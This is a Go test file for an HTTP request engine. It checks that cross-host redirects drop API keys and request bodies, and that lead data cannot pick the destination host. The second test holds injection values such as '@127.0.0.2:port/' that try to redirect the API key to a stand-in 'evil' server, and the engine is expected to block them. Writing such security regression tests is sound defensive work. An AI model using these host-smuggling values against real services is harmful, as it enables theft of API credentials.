package engine

import (
	"context"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
)

// TestFollowRedirectsPolicies reproduces a partner that redirects a POST
// carrying an API key header and a JSON body to another host: by default
// and with none the other host receives nothing; with any it receives the
// request without the key or the body; same-origin redirects are followed.
func TestFollowRedirectsPolicies(t *testing.T) {
	var mu sync.Mutex
	var got []string // what the other host saw
	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		mu.Lock()
		got = append(got, r.Header.Get("X-Api-Key")+"|"+string(b)+"|"+r.Header.Get("Referer"))
		mu.Unlock()
		io.WriteString(w, `{"ok":true}`)
	}))
	defer other.Close()
	partner := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/away":
			http.Redirect(w, r, other.URL+"/stolen", http.StatusTemporaryRedirect)
		case "/here":
			http.Redirect(w, r, "/final", http.StatusTemporaryRedirect)
		case "/final":
			b, _ := io.ReadAll(r.Body)
			if r.Header.Get("X-Api-Key") != "k3y-secret" || string(b) == "" || r.Header.Get("Referer") != "" {
				w.WriteHeader(400)
			}
			io.WriteString(w, `{"ok":true}`)
		}
	}))
	defer partner.Close()
	run := func(t *testing.T, path, policy string) *Result {
		t.Helper()
		extra := ""
		if policy != "" {
			extra = "\n    follow_redirects: " + policy
		}
		src := `version: 1
name: redir
settings: { base_url: {}, key: { secret: true } }
steps:
  - name: call
    request:
      method: POST
      url: "{{settings.base_url}}` + path + `"
      headers: { X-Api-Key: "{{settings.key}}" }
      body: { json: { email: "{{lead.email}}" } }
    retry: [ { on: [3xx], action: fail } ]` + extra + "\n"
		p, err := Parse("redir.yaml", []byte(src))
		if err != nil {
			t.Fatal(err)
		}
		r, err := p.Bind(Config{Values: map[string]any{"base_url": partner.URL, "key": "k3y-secret"}})
		if err != nil {
			t.Fatal(err)
		}
		defer r.Close(context.Background())
		return r.Run(context.Background(), map[string]any{"email": "a@b.co"})
	}
	for _, policy := range []string{"", "same_origin", "none"} {
		res := run(t, "/away", policy)
		if res.Steps[0].Status != 307 {
			t.Errorf("policy %q: status %d, want the 307 as the answer", policy, res.Steps[0].Status)
		}
	}
	mu.Lock()
	if len(got) != 0 {
		t.Fatalf("the other host received %q", got)
	}
	mu.Unlock()
	if res := run(t, "/here", ""); res.Outcome != Success {
		t.Errorf("same-origin redirect: %s %d %s", res.Outcome, res.Steps[0].Status, res.Reason)
	}
	if res := run(t, "/here", "none"); res.Steps[0].Status != 307 {
		t.Errorf("none followed a same-origin redirect: %d", res.Steps[0].Status)
	}
	if res := run(t, "/away", "any"); res.Outcome != Success {
		t.Fatalf("any: %s %s", res.Outcome, res.Reason)
	}
	mu.Lock()
	defer mu.Unlock()
	if len(got) != 1 || strings.Contains(got[0], "k3y") || strings.Contains(got[0], "a@b.co") || strings.Contains(got[0], "http") {
		t.Fatalf("any: the other host received %q, want no key, body or referer", got)
	}
}

// TestLeadDataCannotChooseTheHost reproduces the attack of issue 13: lead
// data after the base URL, or in the host, tried to send the API key to
// another host (127.0.0.2). The other host receives nothing; with
// allow_hosts a lead may pick only a listed host.
func TestLeadDataCannotChooseTheHost(t *testing.T) {
	var stolen sync.Map
	ln, err := net.Listen("tcp", "127.0.0.2:0")
	if err != nil {
		t.Skipf("no 127.0.0.2 on this machine: %v", err)
	}
	evil := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		stolen.Store(r.URL.String(), r.Header.Get("X-Api-Key"))
	}))
	evil.Listener.Close()
	evil.Listener = ln
	evil.Start()
	defer evil.Close()
	_, evilPort, _ := net.SplitHostPort(ln.Addr().String())
	partner := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		io.WriteString(w, `{"ok":true}`)
	}))
	defer partner.Close()
	run := func(url, extra string, lead map[string]any) (*Result, error) {
		src := "version: 1\nname: host\nsettings: { base_url: {}, key: { secret: true } }\n" + extra +
			"steps:\n  - name: call\n    request:\n      url: \"" + url + "\"\n      headers: { X-Api-Key: \"{{settings.key}}\" }\n"
		p, err := Parse("host.yaml", []byte(src))
		if err != nil {
			return nil, err
		}
		r, err := p.Bind(Config{Values: map[string]any{"base_url": partner.URL, "key": "k3y"}})
		if err != nil {
			return nil, err
		}
		defer r.Close(context.Background())
		return r.Run(context.Background(), lead), nil
	}
	res, err := run("{{settings.base_url}}{{lead.x}}", "", map[string]any{"x": "@127.0.0.2:" + evilPort + "/"})
	if err != nil {
		t.Fatal(err)
	}
	if res.Outcome == Success && res.Steps[0].Status == 0 {
		t.Fatalf("unexpected %+v", res)
	}
	for _, url := range []string{"http://127.0.0.1{{lead.x}}/", "http://127.0.0.1:{{lead.port}}/", "{{lead.url}}"} {
		_, err := run(url, "", map[string]any{"x": ".evil", "port": evilPort + "@127.0.0.2:" + evilPort, "url": evil.URL})
		if err == nil || !strings.Contains(err.Error(), "allow_hosts") {
			t.Errorf("%s: load error %v, want one pointing at allow_hosts", url, err)
		}
	}
	// allow_hosts: a lead may choose among the listed hosts, no other
	partnerPort := strings.TrimPrefix(partner.URL, "http://127.0.0.1:")
	allow := "http:\n  allow_hosts: [\"http://127.0.0.1:" + partnerPort + "\"]\n"
	if res, err := run("http://{{lead.host}}:"+partnerPort+"/", allow, map[string]any{"host": "127.0.0.1"}); err != nil || res.Outcome != Success {
		t.Fatalf("allowed host: %v %+v", err, res)
	}
	res, err = run("http://{{lead.host}}:"+evilPort+"/", allow, map[string]any{"host": "127.0.0.2"})
	if err != nil || res.Outcome != Error || res.Steps[0].Status != 0 {
		t.Fatalf("host not allowed: %v %+v", err, res)
	}
	n := 0
	stolen.Range(func(k, v any) bool { n++; t.Errorf("the other host received %v with key %q", k, v); return true })
	if n > 0 {
		t.FailNow()
	}
}
